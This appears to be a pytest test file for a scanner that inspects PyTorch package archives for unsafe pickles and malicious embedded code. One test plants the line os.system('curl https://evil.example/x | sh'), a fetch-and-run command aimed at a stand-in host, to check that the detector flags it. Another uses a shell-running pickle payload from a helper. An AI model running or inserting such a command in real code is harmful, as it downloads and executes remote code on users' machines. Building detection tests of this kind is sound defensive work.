from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import pytest
from tests.formats.assemble import EMPTY_DICT, EMPTY_TUPLE, SHELL, Zip, fetch, pickle, tensor, text
from tests.scan.examine import examine, rules, unexamined
from tests.torch_files import needs_torch

from modelward.core.finding import Verdict

MODULE = b"import torch\n\nclass Net(torch.nn.Module):\n    def forward(self, x):\n        return x\n"


def package(module: bytes = MODULE, state: bytes = tensor(), storage: bytes = bytes(16)) -> bytes:
    made = fetch("my.model", "Net") + EMPTY_TUPLE + b"\x81" + EMPTY_DICT + text("w") + state + b"sb"
    archive = Zip().add("p/.data/extern_modules", b"torch\n").add("p/.data/python_version", b"3.11.7")
    archive.add("p/model/model.pkl", pickle(made)).add("p/my/model.py", module).add(
        "p/model/note.txt", b"{{ x }}"
    )
    return archive.add("p/.data/0.storage", storage).add("p/.data/version", b"6\n").bytes()


def test_classes_whose_code_is_in_the_package_are_clean() -> None:
    assert unexamined(package()) == {}
    assert examine(package()).verdict is Verdict.CLEAN


def test_code_in_the_package_that_runs_a_command() -> None:
    code = MODULE + b"import os\nos.system('curl https://evil.example/x | sh')\n"
    assert "harmful-code" in rules(package(code))


def test_pickle_that_runs_a_command() -> None:
    assert "pickle-unsafe-call" in rules(package(state=SHELL))


def test_class_that_is_not_in_the_package() -> None:
    assert "pickle-unknown-global" in rules(package().replace(b"p/my/model.py", b"p/my/moded.py"))


def test_storage_of_another_size() -> None:
    assert rules(package(storage=bytes(15))) == ["torch-storage-mismatch"]


WRITER = """
import sys, torch, packed_model
from torch.package import PackageExporter, package_exporter
package_exporter._gate_torchscript_serialization = False
with PackageExporter(sys.argv[1]) as exporter:
    exporter.intern("packed_model")
    exporter.extern("torch.**")
    exporter.save_pickle("model", "model.pkl", packed_model.Net())
    exporter.save_pickle("graph", "graph.pkl", torch.fx.symbolic_trace(packed_model.Net()))
    exporter.save_pickle("script", "script.pkl", torch.jit.script(packed_model.Net()))
"""


@needs_torch
@pytest.mark.filterwarnings("ignore")
def test_what_torch_writes_is_clean(tmp_path: Path) -> None:
    source = MODULE.replace(b"return x", b"return self.layer(x)") + b"    def __init__(self):\n"
    source += b"        super().__init__()\n        self.layer = torch.nn.Linear(2, 2)\n"
    (tmp_path / "packed_model.py").write_bytes(source)
    command = [sys.executable, "-W", "ignore", "-c", WRITER, str(tmp_path / "p.pt")]
    subprocess.run(command, cwd=tmp_path, check=True, capture_output=True)
    report = examine((tmp_path / "p.pt").read_bytes())
    assert report.verdict is Verdict.CLEAN, (report.findings, report.coverage)
